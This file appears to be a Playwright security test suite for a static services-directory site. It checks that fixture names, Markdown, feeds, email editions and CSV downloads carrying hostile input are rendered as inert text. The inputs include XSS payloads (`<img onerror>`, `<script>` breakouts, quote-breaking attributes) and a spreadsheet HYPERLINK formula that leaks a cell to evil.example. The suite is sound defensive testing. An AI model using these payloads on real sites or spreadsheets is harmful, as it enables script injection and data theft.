/**
 * Untrusted data cannot inject script. Runs only against the site built from
 * tests/fixtures/xss-city (its names, descriptions, addresses, phones, URLs and licences carry
 * `<img onerror>`, `<script>`, `</script>`, quote-breaking and `javascript:` payloads; its
 * Markdown (tests/fixtures/xss-city/content) every construct a sanitiser must remove, feed
 * titles with two `]]>`; its census labels spreadsheet formulas):
 *   XSS_DIST=/tmp/xss-site DIST=/tmp/xss-site npx playwright test tests/e2e/xss.spec.ts
 * `npm test` (scripts/test.ts) builds that site in a temporary copy of the project and runs this.
 * The journeys run twice, with the Content-Security-Policy and with it bypassed (what a page
 * is worth where no policy reaches): no dialog opens, no payload flag is set, no element from a
 * payload exists, no `javascript:` link, the payload text is shown as text. Then every page is
 * opened with the policy bypassed, and every feed, email edition and CSV is read as its reader
 * would read it (tests/e2e/lib/inert-outputs.ts).
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { headerPolicy } from '../../src/lib/security/csp.ts';
import xssConfig from '../fixtures/xss-city/site.config.ts';
import { builtFiles as listFiles, htmlFiles, isRedirectStub } from './lib/html-audit.ts';
import { csvProblems, emailProblems, feedProblems } from './lib/inert-outputs.ts';

test.skip(!process.env['XSS_DIST'], 'needs the xss-city fixture site (XSS_DIST)');
const dist = process.env['XSS_DIST'] ?? 'dist';
/** The fixture's deployed origin (its siteUrl): email editions point their images there. */
const SITE_ORIGIN = 'https://xss-city.example.org';

const IMG = 'Zzxss Img <img src=x onerror="window.__xss=1;alert(1)">';
const CLINIC = 'Zzxss Clinic <img src=x onerror="window.__xss=1;alert(1)">';
const SCRIPT = 'Zzxss Script <script>window.__xss=2;alert(2)</script>';
const QUOTE = 'Zzxss Quote " onmouseover="window.__xss=3" data-x="';
const END = 'Zzxss EndScript </script><script>window.__xss=5;alert(5)</script>';

const dialogs: string[] = [];

test.beforeEach(({ page }) => {
  dialogs.length = 0;
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
});

/** Nothing from a payload ran or became markup. */
async function expectInert(page: Page) {
  await page.waitForLoadState('networkidle');
  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
  await expect(page.locator('img[src="x"], svg[onload], [onerror], [onmouseover], [onfocus], [data-x]')).toHaveCount(0);
  await expect(page.locator('a[href^="javascript:" i], a[href^="data:" i], a[href^=" javascript:" i]')).toHaveCount(0);
  // Scripts in the page are only the site's own files and JSON-LD data.
  const inline = await page.locator('script:not([src]):not([type="application/ld+json"])').count();
  expect(inline).toBe(0);
}

for (const bypassCSP of [false, true])
  test.describe(`untrusted data shows as text${bypassCSP ? ', with the CSP bypassed' : ''}`, () => {
    test.use({ bypassCSP });

    test('finder list and map popup', async ({ page }) => {
      await page.setViewportSize({ width: 1280, height: 900 });
      await page.goto('/en/services/?q=zzxss');
      await expect(page.locator('.results-heading')).toHaveText('7 services found');
      for (const name of [IMG, CLINIC, SCRIPT, QUOTE, END])
        await expect(page.getByRole('link', { name, exact: true })).toBeVisible();
      await expectInert(page);
      // Centre the map on the clinic (its own point), then click it: the popup shows name and address as text.
      await page.goto('/en/services/?q=zzxss&near=46.0955%2C-64.8052');
      await expect(page.locator('service-finder')).toHaveAttribute('data-map-features', '7', { timeout: 20_000 });
      const canvas = page.locator('.map canvas');
      await expect(canvas).toBeVisible();
      const popup = page.locator('.maplibregl-popup');
      for (let i = 0; i < 10 && (await popup.count()) === 0; i += 1) {
        await page.waitForTimeout(500);
        const box = (await canvas.boundingBox())!;
        await canvas.click({ position: { x: box.width / 2, y: box.height / 2 } });
      }
      await expect(popup).toContainText(CLINIC);
      await expect(popup).toContainText('9 Harbour <img src=x onerror="window.__xss=1;alert(1)">');
      await expectInert(page);
    });

    test('service pages, with their JSON-LD', async ({ page }) => {
      // Nine page loads on a shared machine.
      test.setTimeout(90_000);
      for (const name of [CLINIC, END, QUOTE, IMG]) {
        await page.goto('/en/services/?q=zzxss');
        await page.getByRole('link', { name, exact: true }).click();
        await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);
        await expectInert(page);
        const jsonLd = await page.locator('script[type="application/ld+json"]').allTextContents();
        expect(jsonLd.length).toBeGreaterThan(0);
        const names = jsonLd.map((text) => JSON.stringify(JSON.parse(text)));
        expect(names.some((n) => n.includes(JSON.stringify(name).slice(1, -1)))).toBe(true);
      }
      // The clinic's description, organization, phone and schedule note carry payloads too.
      await page.goto('/en/services/?q=zzxss');
      await page.getByRole('link', { name: CLINIC, exact: true }).click();
      await expect(
        page.getByText('Description <script>window.__xss=2;alert(2)</script> and', { exact: false }),
      ).toBeVisible();
      await expect(page.getByText('Org </script><script>window.__xss=5;alert(5)</script>').first()).toBeVisible();
      await expectInert(page);
    });

    test('search results', async ({ page }) => {
      await page.goto('/en/search/?q=zzxss');
      await expect(page.locator('site-search').getByRole('status')).toHaveText(/\d+ results? for “zzxss”/, {
        timeout: 15_000,
      });
      await expect(page.getByRole('main').getByRole('listitem').first()).toBeVisible();
      await expect(page.getByRole('main')).toContainText('<img src=x onerror=');
      await expectInert(page);
    });

    test('home, data sources, quality report and gaps pages', async ({ page }) => {
      for (const path of ['/en/', '/en/data/', '/en/data/quality/', '/en/gaps/', '/fr/services/category/settlement/']) {
        await page.goto(path);
        await expectInert(page);
      }
      await page.goto('/en/data/');
      await expect(page.getByText('Fixture licence "><img src=x onerror=alert(14)>').first()).toBeVisible();
      await expect(page.getByText('Fixture data, not real. <img src=x onerror=alert(15)>').first()).toBeVisible();
    });

    test('Markdown bodies: hostile HTML removed, the rest of the page intact', async ({ page }) => {
      for (const path of ['/en/news/zzxss-markdown/', '/fr/news/zzxss-markdown/', '/en/e-updates/zzxss-edition/']) {
        await page.goto(path);
        await expectInert(page);
        await expect(
          page.locator('main article :is(iframe, object, embed, form, input, button, svg, base, meta, link, style)'),
        ).toHaveCount(0);
        await expect(page.locator('main img:not([src^="/"])')).toHaveCount(0);
        await expect(page.getByRole('contentinfo')).toBeVisible();
      }
      await page.goto('/en/news/zzxss-markdown/');
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(
        'Zzxss news <img src=x onerror="window.__xss=30;alert(30)">',
      );
      await expect(page.getByText('Zzxss div text stays')).toBeVisible();
      await expect(page.getByRole('heading', { name: 'Zzxss after the unclosed iframe' })).toBeVisible();
      await expect(page.getByText('Zzxss text after the unclosed iframe is still on the page.')).toBeVisible();
      // The image from another site is a link to it now, like every external link.
      await expect(page.getByRole('link', { name: 'Zzxss tracker' })).toHaveAttribute('rel', 'noopener noreferrer');
      // Links to script, data or another host's "//" address keep their text and lose their target.
      for (const name of ['Zzxss js link', 'Zzxss data link', 'Zzxss raw js', 'Zzxss other host']) {
        await expect(page.getByText(name)).toBeVisible();
        await expect(page.locator('a[href]', { hasText: name })).toHaveCount(0);
      }
    });
  });

/**
 * Every built page, as a path the server answers (`en/x/index.html` → `/en/x/`). Not the browser
 * editor (`admin/`): it renders no data of the site, and its own policy is tested in cms.spec.ts.
 * Not the redirect stubs of old addresses either: they navigate away at once and hold no data.
 */
function pagePaths(): string[] {
  return htmlFiles(dist)
    .filter((f) => !f.startsWith('admin/') && !isRedirectStub(readFileSync(join(dist, f), 'utf8')))
    .map((f) => `/${f.replace(/(^|\/)index\.html$/, '$1')}`);
}

test.describe('every page with the CSP bypassed', () => {
  test.use({ bypassCSP: true });
  const SHARDS = 6;
  for (let shard = 0; shard < SHARDS; shard += 1) {
    test(`pages ${String(shard + 1)} of ${String(SHARDS)}: nothing runs, nothing loads from another origin`, async ({
      page,
      baseURL,
    }) => {
      test.setTimeout(600_000);
      const paths = pagePaths().filter((_, i) => i % SHARDS === shard);
      expect(paths.length).toBeGreaterThan(10);
      const origin = new URL(baseURL!).origin;
      const offsite: string[] = [];
      let current = '';
      page.on('request', (r) => {
        const url = new URL(r.url());
        if (url.protocol === 'data:' || url.protocol === 'blob:' || url.origin === origin) return;
        // Email editions are sent as they are: their images point at the site's own deployed origin.
        if (current.endsWith('/email.html') && url.origin === SITE_ORIGIN) return;
        offsite.push(`${current}: ${r.url()}`);
      });
      // Nothing leaves the machine, whatever a page asks for.
      await page.route(
        (url) => url.origin !== origin,
        (route) => route.abort(),
      );
      for (const path of paths) {
        current = path;
        await page.goto(path, { waitUntil: 'load' });
        expect(dialogs, path).toEqual([]);
        expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss), path).toBeUndefined();
        expect(
          await page
            .locator(
              '[onerror], [onload]:not(body), [onclick], [onfocus], [onmouseover], [ontoggle], iframe, object, embed',
            )
            .count(),
          path,
        ).toBe(0);
      }
      expect(offsite).toEqual([]);
    });
  }
});

/** Every file of the built fixture site whose name matches. */
const builtFiles = (name: RegExp) => listFiles(dist, name);

test.describe('outputs no CSP protects', () => {
  test('every RSS and Atom feed: well-formed, no live markup in any field a reader renders', () => {
    const feeds = builtFiles(/^(?:rss|atom)\.xml$/);
    expect(feeds.length).toBeGreaterThanOrEqual(4);
    const problems = feeds.flatMap((f) => feedProblems(readFileSync(join(dist, f), 'utf8')).map((p) => `${f}: ${p}`));
    expect(problems).toEqual([]);
    // The hostile edition is in them, as text: both "]]>" and the markup a reader shows literally.
    const rss = readFileSync(join(dist, 'en/e-updates/rss.xml'), 'utf8');
    expect(rss).toContain(
      'Zzxss edition ]]&gt;&lt;script&gt;window.__xss=50;alert(50)&lt;/script&gt; and ]]&gt;&lt;img',
    );
  });

  test('every email edition: nothing runs, images only from the site', () => {
    const emails = builtFiles(/^email\.html$/);
    expect(emails.some((f) => f.includes('zzxss-edition'))).toBe(true);
    const problems = emails.flatMap((f) =>
      emailProblems(readFileSync(join(dist, f), 'utf8'), SITE_ORIGIN).map((p) => `${f}: ${p}`),
    );
    expect(problems).toEqual([]);
    const hostile = readFileSync(join(dist, 'en/e-updates/zzxss-edition/email.html'), 'utf8');
    expect(hostile).toContain('Zzxss agency &lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;script&gt;');
  });

  test('every CSV download: no cell, nor part after a separator, starts a formula', () => {
    const files = builtFiles(/\.csv$/);
    expect(files.length).toBeGreaterThan(5);
    const problems = files.flatMap((f) => csvProblems(readFileSync(join(dist, f), 'utf8')).map((p) => `${f}: ${p}`));
    expect(problems).toEqual([]);
    // The census labels with formulas reached the downloads, guarded.
    const all = files.map((f) => readFileSync(join(dist, f), 'utf8')).join('\n');
    expect(all).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1;""Zzxss Arabic"")"`);
    expect(all).toContain("'+Zzxss Harbour-1");
  });

  test('_headers: one block, the policy built from the configuration, no injected line', () => {
    const headers = readFileSync(join(dist, '_headers'), 'utf8');
    // The site's block and the browser editor's own (src/lib/cms/integration.ts); nothing else starts a block.
    expect(headers.split('\n').filter((l) => /^\S/.test(l))).toEqual(['/*', '/admin/*']);
    expect(headers).toContain(
      `  Content-Security-Policy: ${headerPolicy({ basemap: null, formActions: [xssConfig.newsletterUrl] })}\n`,
    );
    expect(headers).toContain("form-action 'self' https://lists.xss-city.example.org;");
  });
});
